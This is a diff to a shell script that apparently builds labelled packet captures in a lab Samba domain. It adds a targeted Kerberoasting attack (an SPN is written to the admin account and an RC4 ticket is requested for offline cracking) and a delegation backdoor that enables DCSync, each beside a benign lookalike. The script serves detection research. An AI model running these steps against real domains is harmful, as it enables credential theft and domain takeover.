@@ -886,3 +886,77 @@ sc_smb_admin_share_copy() {
   cap_end
   dc_admin_share off
 }
+
+SCEN_LIST="$SCEN_LIST targeted_kerberoast benign_service_spn delegation_backdoor benign_delegation_toggle"
+
+# An ACL path to an administrator, as BloodHound finds them (before any recording): bob may
+# read and write da_admin's properties (GenericWrite). Samba 4.17 does not honour a
+# WriteProperty limited to servicePrincipalName for this write; the generic right it does.
+targeted_roast_setup() {
+  local sid
+  sid=$(st user show bob --attributes=objectSid | sed -n 's/^objectSid: //p')
+  st dsacl set --objectdn="CN=$DA_USER,CN=Users,$BASEDN" \
+    --sddl="(A;;RPWP;;;$sid)" >/dev/null
+}
+
+spn_ldif() {   # spn_ldif FILE DN add|delete SPN
+  printf 'dn: %s\nchangetype: modify\n%s: servicePrincipalName\nservicePrincipalName: %s\n' "$2" "$3" "$4" > "$1"
+}
+
+sc_targeted_kerberoast() {
+  targeted_roast_setup
+  local dn="CN=$DA_USER,CN=Users,$BASEDN" spn="HTTP/stage.$DNSDOM"
+  cap_begin targeted_kerberoast attack T1558.003 "$ATK_IP" "$DA_USER (SPN $spn added, its ticket asked, the SPN removed)" \
+    "Targeted Kerberoasting: bob, who may write da_admin's properties (GenericWrite, an ACL path set up before the recording), adds the SPN $spn to da_admin with ldapmodify (simple bind), asks a service ticket for da_admin with impacket GetUserSPNs -request-user (RC4, to crack offline) and removes the SPN again."
+  spn_ldif "$WORK/tmp/spn-add.ldif" "$dn" add "$spn"
+  spn_ldif "$WORK/tmp/spn-del.ldif" "$dn" delete "$spn"
+  on atk -- ldapmodify -x -H "ldap://$DC_IP" -D "bob@$DNSDOM" -w "$BOB_PASS" -f "$WORK/tmp/spn-add.ldif"
+  on atk -- "$VPY" "$IMP/GetUserSPNs.py" "$DNSDOM/bob:$BOB_PASS" -dc-ip "$DC_IP" -request-user "$DA_USER" -outputfile "$WORK/tmp/targeted.hashes"
+  on atk -- ldapmodify -x -H "ldap://$DC_IP" -D "bob@$DNSDOM" -w "$BOB_PASS" -f "$WORK/tmp/spn-del.ldif"
+  expect 'ldap.protocolOp==6' 2
+  expect 'kerberos.msg_type==13'
+  cap_end
+}
+
+sc_benign_service_spn() {
+  local dn="CN=svc_web,CN=Users,$BASEDN" spn="HTTP/reports.$DNSDOM"
+  cap_begin benign_service_spn benign none "$WS_IP" "svc_web (SPN $spn)" \
+    "An admin publishes a new web site under the existing service account: da_admin at the workstation adds the SPN $spn to svc_web (ldapmodify), then alice asks a service ticket for it (impacket getST), as her browser would."
+  spn_ldif "$WORK/tmp/spn-web.ldif" "$dn" add "$spn"
+  on ws -- ldapmodify -x -H "ldap://$DC_IP" -D "$DA_USER@$DNSDOM" -w "$DA_PASS" -f "$WORK/tmp/spn-web.ldif"
+  on ws -- "$VPY" "$IMP/getST.py" -dc-ip "$DC_IP" -spn "$spn" "$DNSDOM/alice:$ALICE_PASS"
+  expect 'ldap.protocolOp==6'
+  expect 'kerberos.msg_type==13'
+  cap_end
+  spn_ldif "$WORK/tmp/spn-web.ldif" "$dn" delete "$spn"
+  ns $NS_WS ldapmodify -x -H "ldap://$DC_IP" -D "$DA_USER@$DNSDOM" -w "$DA_PASS" -f "$WORK/tmp/spn-web.ldif" >/dev/null 2>&1 || true
+}
+
+sc_delegation_backdoor() {
+  local remote=(-H "ldap://$DC_IP" -s "$WORK/client.conf" -U "$DOMAIN\\$DA_USER%$DA_PASS" --use-kerberos=off)
+  cap_begin delegation_backdoor attack T1098 "$ATK_IP" "SQL01\$ (unconstrained delegation), svc_web (protocol transition, ldap/$DCFQDN)" \
+    "A delegation backdoor: with da_admin's stolen password the attacker trusts SQL01 for unconstrained delegation, and gives svc_web protocol transition and constrained delegation to the DC's LDAP service (impersonate anyone to ldap/$DCFQDN: DCSync at will), with samba-tool delegation over sealed LDAP."
+  on atk -- samba-tool delegation for-any-service 'SQL01$' on "${remote[@]}"
+  on atk -- samba-tool delegation for-any-protocol svc_web on "${remote[@]}"
+  on atk -- samba-tool delegation add-service svc_web "ldap/$DCFQDN" "${remote[@]}"
+  expect "tcp.dstport==389 && ip.src==$ATK_IP"
+  cap_end
+  st delegation for-any-service 'SQL01$' off >/dev/null
+  st delegation for-any-protocol svc_web off >/dev/null
+  st delegation del-service svc_web "ldap/$DCFQDN" >/dev/null
+}
+
+sc_benign_delegation_toggle() {
+  # WEB01, a web front end, is trusted for delegation before the recording.
+  st delegation for-any-service 'WEB01$' on >/dev/null
+  cap_begin benign_delegation_toggle benign none "$WS_IP" "WEB01\$ (enabled, disabled)" \
+    "Maintenance of a delegating server: WEB01, trusted for unconstrained delegation all along (set before the recording), has its computer account enabled and disabled again by da_admin at the workstation (ldapmodify of userAccountControl). With the directory synced after it (WEB01.snapshot.json)."
+  printf 'dn: CN=WEB01,CN=Computers,%s\nchangetype: modify\nreplace: userAccountControl\nuserAccountControl: %s\n' "$BASEDN" 528384 > "$WORK/tmp/web01-on.ldif"
+  printf 'dn: CN=WEB01,CN=Computers,%s\nchangetype: modify\nreplace: userAccountControl\nuserAccountControl: %s\n' "$BASEDN" 528386 > "$WORK/tmp/web01-off.ldif"
+  on ws -- ldapmodify -x -H "ldap://$DC_IP" -D "$DA_USER@$DNSDOM" -w "$DA_PASS" -f "$WORK/tmp/web01-on.ldif"
+  on ws -- ldapmodify -x -H "ldap://$DC_IP" -D "$DA_USER@$DNSDOM" -w "$DA_PASS" -f "$WORK/tmp/web01-off.ldif"
+  expect 'ldap.protocolOp==6' 2
+  cap_end
+  sync_directory benign_delegation_toggle
+  st delegation for-any-service 'WEB01$' off >/dev/null
+}
